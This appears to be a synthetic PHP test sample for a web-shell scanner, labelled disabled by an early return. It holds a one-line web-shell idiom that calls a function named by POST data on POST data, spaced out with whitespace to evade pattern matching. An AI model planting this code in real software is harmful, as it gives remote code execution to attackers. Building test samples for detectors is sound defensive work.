<?php
// synthetic test sample for breachscan: request-named function called on request data, the
// call spread out with padding whitespace to dodge simple patterns. Disabled.
return;
if (!empty($_POST)) {
    $_POST['f']                        ($_POST        ['c']);
}
